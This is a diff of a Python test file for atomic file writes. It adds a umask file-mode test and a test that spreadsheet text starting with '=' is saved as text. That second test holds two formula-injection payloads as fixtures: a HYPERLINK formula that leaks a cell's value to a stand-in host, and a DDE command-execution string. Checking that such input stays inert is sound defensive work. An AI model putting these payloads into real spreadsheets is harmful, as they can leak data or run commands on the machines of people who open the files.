@@ -1,12 +1,16 @@
-"""Atomic writes: a failure never leaves a half-written file over a good one."""
+"""Atomic writes: a failure never leaves a half-written file over a good one; modes and text
+cells as the user expects."""
 
 from __future__ import annotations
 
+import os
+import stat
 from pathlib import Path
 
 import pytest
+from openpyxl import Workbook, load_workbook
 
-from models.atomic import atomic_write, atomic_write_text
+from models.atomic import atomic_write, atomic_write_text, save_workbook
 
 
 def test_failed_write_keeps_the_old_file(tmp_path: Path) -> None:
@@ -29,3 +33,39 @@ def test_write_creates_folder(tmp_path: Path) -> None:
     target = tmp_path / "new" / "unit.yaml"
     atomic_write_text(target, "name: x\\n")
     assert target.read_text() == "name: x\\n"
+
+
+def test_a_new_file_gets_the_mode_the_umask_gives(tmp_path: Path) -> None:
+    """A new file is as readable as the user's umask makes new files (0644 under 022), not
+    owner-only; a file written over keeps the mode it had."""
+    old = os.umask(0o022)
+    try:
+        target = tmp_path / "turnus.xlsx"
+        atomic_write_text(target, "first")
+        assert stat.S_IMODE(target.stat().st_mode) == 0o644
+        target.chmod(0o600)
+        atomic_write_text(target, "second")
+        assert stat.S_IMODE(target.stat().st_mode) == 0o600
+    finally:
+        os.umask(old)
+
+
+def test_text_that_looks_like_a_formula_is_saved_as_text(tmp_path: Path) -> None:
+    """A cell given text that starts with '=' (a name from the input) is saved as that text,
+    not as a formula Excel would run; numbers and plain text are as they were."""
+    workbook = Workbook()
+    sheet = workbook.active
+    assert sheet is not None
+    sheet["A1"] = '=HYPERLINK("http://x.example/?leak="&B1,"Klikk")'
+    sheet["A2"] = "=cmd|' /C calc'!A0"
+    sheet["B1"] = "Kari"
+    sheet["B2"] = 37.5
+    target = tmp_path / "ut.xlsx"
+    save_workbook(workbook, target)
+    again = load_workbook(target).active
+    assert again is not None
+    assert again["A1"].value == '=HYPERLINK("http://x.example/?leak="&B1,"Klikk")'
+    assert again["A1"].data_type == "s"
+    assert again["A2"].data_type == "s"
+    assert again["B1"].value == "Kari"
+    assert again["B2"].value == 37.5
